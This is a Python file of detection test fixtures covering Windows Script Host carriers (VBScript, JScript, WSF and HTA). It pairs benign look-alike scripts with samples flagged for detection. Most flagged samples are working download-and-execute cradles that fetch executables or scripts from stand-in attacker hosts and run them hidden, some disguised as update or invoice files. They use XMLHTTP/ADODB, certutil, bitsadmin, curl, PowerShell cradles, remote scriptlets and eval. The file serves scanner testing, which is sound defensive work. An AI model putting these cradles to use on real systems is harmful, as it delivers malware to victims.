# Windows Script Host carriers: wsh-vbs, wsh-js, wsf, hta.
from common import C, ps_enc

ENC3 = ps_enc("$c=New-Object System.Net.WebClient;$c.DownloadFile('https://attacker.example/s.exe',\"$env:PUBLIC\\s.exe\");& \"$env:PUBLIC\\s.exe\"")

# ================================================================ wsh-vbs
C("vbs-xmlhttp-adodb-01", "atomic-red-team T1105 'Download a file using wscript' (XMLHTTP + ADODB.Stream SaveToFile)", "wsh-vbs",
  "/opt/win/x.vbs", "detect", r"""Dim http, stream
Set http = CreateObject("MSXML2.XMLHTTP")
http.Open "GET", "http://203.0.113.5/payload.exe", False
http.Send
If http.Status = 200 Then
    Set stream = CreateObject("ADODB.Stream")
    stream.Open
    stream.Type = 1
    stream.Write http.ResponseBody
    stream.SaveToFile "C:\Users\Public\payload.exe", 2
    stream.Close
End If
CreateObject("WScript.Shell").Run "C:\Users\Public\payload.exe", 0, False
""")

C("vbs-winhttp-02", "WinHttp.WinHttpRequest.5.1 + ADODB.Stream", "wsh-vbs",
  "/opt/win/scripts/upd.vbs", "detect", r"""Option Explicit
Dim req, bin
Set req = CreateObject("WinHttp.WinHttpRequest.5.1")
req.Open "GET", "https://attacker.example/u.dll", False
req.Send
Set bin = CreateObject("ADODB.Stream")
bin.Type = 1: bin.Open
bin.Write req.ResponseBody
bin.SaveToFile CreateObject("WScript.Shell").ExpandEnvironmentStrings("%TEMP%") & "\u.dll", 2
""")

C("vbs-shell-run-certutil-03", "WScript.Shell.Run certutil -urlcache", "wsh-vbs",
  "/opt/win/cu.vbs", "detect", r"""Set sh = CreateObject("WScript.Shell")
sh.Run "cmd /c certutil -urlcache -split -f http://198.51.100.7/a.exe %TEMP%\a.exe && %TEMP%\a.exe", 0, True
""")

C("vbs-shell-run-powershell-iwr-04", "WScript.Shell.Run powershell iwr (VBS launcher)", "wsh-vbs",
  "/opt/win/startup/launch.vbs", "detect", r'''Dim o
Set o = CreateObject("Wscript.Shell")
o.Run "powershell -w hidden -c ""iwr http://203.0.113.10/b.ps1 -UseBasicParsing | iex""", 0
''')

C("vbs-serverxmlhttp-url-var-05", "Msxml2.ServerXMLHTTP with URL built from parts", "wsh-vbs",
  "/opt/win/report.vbs", "detect", r"""Const HOST = "203.0.113.10"
Dim url : url = "http://" & HOST & ":8080/r/tool.exe"
Dim x : Set x = CreateObject("Msxml2.ServerXMLHTTP.6.0")
x.open "GET", url, False
x.send
Dim s : Set s = CreateObject("ADODB.Stream")
s.Type = 1 : s.Open : s.Write x.responseBody
s.SaveToFile "C:\ProgramData\tool.exe", 2 : s.Close
""")

C("vbs-shell-run-encodedcommand-06", "VBS launching powershell -ec (UTF-16LE base64 WebClient.DownloadFile cradle)", "wsh-vbs",
  "/opt/win/helpers/svc.vbs", "detect", 'CreateObject("WScript.Shell").Run "powershell.exe -NoP -W Hidden -ec ' + ENC3 + '", 0, False\n')

C("vbs-silent-fso-copy-01", "look-alike: FileSystemObject local copy + WScript.Echo URL", "wsh-vbs",
  "/opt/win/backup.vbs", "silent", r"""Set fso = CreateObject("Scripting.FileSystemObject")
fso.CopyFile "C:\App\config.ini", "D:\Backup\config.ini", True
WScript.Echo "Backup done. Docs: https://docs.example.com/backup"
""")

C("vbs-silent-registry-read-02", "look-alike: VBS reading registry and writing a local log", "wsh-vbs",
  "/opt/win/inventory.vbs", "silent", r"""Set sh = CreateObject("WScript.Shell")
ver = sh.RegRead("HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\CurrentBuild")
Set fso = CreateObject("Scripting.FileSystemObject")
Set f = fso.OpenTextFile("C:\ProgramData\inventory.txt", 8, True)
f.WriteLine Now & " build=" & ver
f.Close
""")

# ================================================================ wsh-js
C("wshjs-serverxmlhttp-adodb-01", "JScript ActiveXObject MSXML2.ServerXMLHTTP + ADODB.Stream", "wsh-js",
  "/opt/win/update.js", "detect", r"""var x = new ActiveXObject("MSXML2.ServerXMLHTTP.6.0");
x.open("GET", "http://203.0.113.5/p.exe", false);
x.send();
var s = new ActiveXObject("ADODB.Stream");
s.Type = 1;
s.Open();
s.Write(x.responseBody);
s.SaveToFile("C:\\Users\\Public\\p.exe", 2);
s.Close();
new ActiveXObject("WScript.Shell").Run("C:\\Users\\Public\\p.exe", 0, false);
""")

C("wshjs-winhttp-02", "JScript WinHttp.WinHttpRequest.5.1 + eval of response", "wsh-js",
  "/opt/win/scripts/inv.js", "detect", r"""var r = new ActiveXObject("WinHttp.WinHttpRequest.5.1");
r.Open("GET", "https://attacker.example/s.js", false);
r.Send();
eval(r.ResponseText);
""")

C("wshjs-shell-run-bitsadmin-03", "JScript WScript.Shell.Run bitsadmin /transfer", "wsh-js",
  "/opt/win/bits.js", "detect", r"""var sh = WScript.CreateObject("WScript.Shell");
sh.Run("bitsadmin /transfer j /download /priority high http://198.51.100.7/a.exe %TEMP%\\a.exe", 0, true);
sh.Run("%TEMP%\\a.exe", 0, false);
""")

C("wshjs-getobject-script-04", "JScript GetObject('script:http://...') remote scriptlet", "wsh-js",
  "/opt/win/loader.js", "detect", r"""GetObject("script:http://203.0.113.5/payload.sct");
""")

C("wshjs-silent-echo-01", "look-alike: JScript that only echoes and reads environment", "wsh-js",
  "/opt/win/env.js", "silent", r"""var sh = WScript.CreateObject("WScript.Shell");
var env = sh.Environment("PROCESS");
WScript.Echo("TEMP=" + env("TEMP"));
WScript.Echo("See http://docs.example.com/env for details");
""")

# ================================================================ wsf
C("wsf-vbs-xmlhttp-01", "WSF job with VBScript XMLHTTP + ADODB.Stream", "wsf",
  "/opt/win/job.wsf", "detect", r"""<?xml version="1.0"?>
<package>
  <job id="main">
    <script language="VBScript">
      Set h = CreateObject("Microsoft.XMLHTTP")
      h.Open "GET", "http://203.0.113.5/p.exe", False
      h.Send
      Set s = CreateObject("ADODB.Stream")
      s.Type = 1 : s.Open : s.Write h.ResponseBody
      s.SaveToFile "C:\ProgramData\p.exe", 2
      CreateObject("WScript.Shell").Run "C:\ProgramData\p.exe", 0
    </script>
  </job>
</package>
""")

C("wsf-jscript-winhttp-02", "WSF job with JScript WinHttpRequest", "wsf",
  "/opt/win/tasks/sync.wsf", "detect", r"""<job id="sync">
  <script language="JScript">
    var r = new ActiveXObject("WinHttp.WinHttpRequest.5.1");
    r.Open("GET", "https://attacker.example/cfg.js", false);
    r.Send();
    var fso = new ActiveXObject("Scripting.FileSystemObject");
    var f = fso.CreateTextFile("C:\\ProgramData\\cfg.js", true);
    f.Write(r.ResponseText);
    f.Close();
  </script>
</job>
""")

C("wsf-shell-run-curl-03", "WSF job running curl.exe via WScript.Shell", "wsf",
  "/opt/win/deploy.wsf", "detect", r"""<job>
  <script language="VBScript">
    Set sh = CreateObject("WScript.Shell")
    sh.Run "curl.exe -s -o %TEMP%\d.exe http://198.51.100.7/d.exe", 0, True
    sh.Run "%TEMP%\d.exe", 0, False
  </script>
</job>
""")

C("wsf-silent-local-01", "look-alike: WSF job doing local file housekeeping", "wsf",
  "/opt/win/cleanup.wsf", "silent", r"""<job id="cleanup">
  <script language="VBScript">
    Set fso = CreateObject("Scripting.FileSystemObject")
    For Each f In fso.GetFolder("C:\ProgramData\App\logs").Files
      If DateDiff("d", f.DateLastModified, Now) > 14 Then f.Delete True
    Next
    WScript.Echo "cleanup finished"
  </script>
</job>
""")

# ================================================================ hta
C("hta-vbs-xmlhttp-01", "HTA VBScript XMLHTTP + ADODB.Stream SaveToFile", "hta",
  "/opt/win/update.hta", "detect", r"""<html>
<head>
<title>Update</title>
<HTA:APPLICATION ID="upd" APPLICATIONNAME="Update" WINDOWSTATE="minimize" SHOWINTASKBAR="no"/>
<script language="VBScript">
Sub Window_OnLoad
  Set h = CreateObject("MSXML2.XMLHTTP")
  h.Open "GET", "http://203.0.113.5/u.exe", False
  h.Send
  Set s = CreateObject("ADODB.Stream")
  s.Type = 1 : s.Open : s.Write h.ResponseBody
  s.SaveToFile "C:\Users\Public\u.exe", 2
  CreateObject("WScript.Shell").Run "C:\Users\Public\u.exe", 0
  self.close
End Sub
</script>
</head>
<body></body>
</html>
""")

C("hta-shell-run-powershell-02", "HTA launching PowerShell download cradle", "hta",
  "/opt/win/invoice.hta", "detect", r'''<html><head>
<script language="VBScript">
  Set o = CreateObject("WScript.Shell")
  o.Run "powershell.exe -nop -w hidden -c ""(New-Object Net.WebClient).DownloadFile('http://198.51.100.7/i.exe','%TEMP%\i.exe'); Start-Process '%TEMP%\i.exe'""", 0
  window.close()
</script>
</head><body>Loading...</body></html>
''')

C("hta-jscript-activex-03", "HTA JScript ActiveXObject XMLHTTP + ADODB", "hta",
  "/opt/win/app/setup.hta", "detect", r"""<html>
<head>
<hta:application id="setup" border="none" />
<script language="JScript">
  var x = new ActiveXObject("Msxml2.XMLHTTP");
  x.open("GET", "https://attacker.example/s.dll", false);
  x.send();
  var st = new ActiveXObject("ADODB.Stream");
  st.Type = 1; st.Open(); st.Write(x.responseBody);
  st.SaveToFile("C:\\ProgramData\\s.dll", 2);
  new ActiveXObject("WScript.Shell").Run("rundll32 C:\\ProgramData\\s.dll,Run", 0);
  window.close();
</script>
</head>
<body></body>
</html>
""")

C("hta-silent-form-01", "look-alike: HTA settings form with a documentation link", "hta",
  "/opt/win/settings.hta", "silent", r"""<html>
<head>
<title>App Settings</title>
<hta:application id="settings" applicationname="Settings" />
<script language="VBScript">
Sub SaveSettings
  Set fso = CreateObject("Scripting.FileSystemObject")
  Set f = fso.CreateTextFile("C:\ProgramData\App\settings.ini", True)
  f.WriteLine "port=" & portBox.Value
  f.Close
  MsgBox "Saved"
End Sub
</script>
</head>
<body>
  <p>Port: <input id="portBox" value="8080"></p>
  <button onclick="SaveSettings">Save</button>
  <p>Help: <a href="https://docs.example.com/settings">docs.example.com</a></p>
</body>
</html>
""")
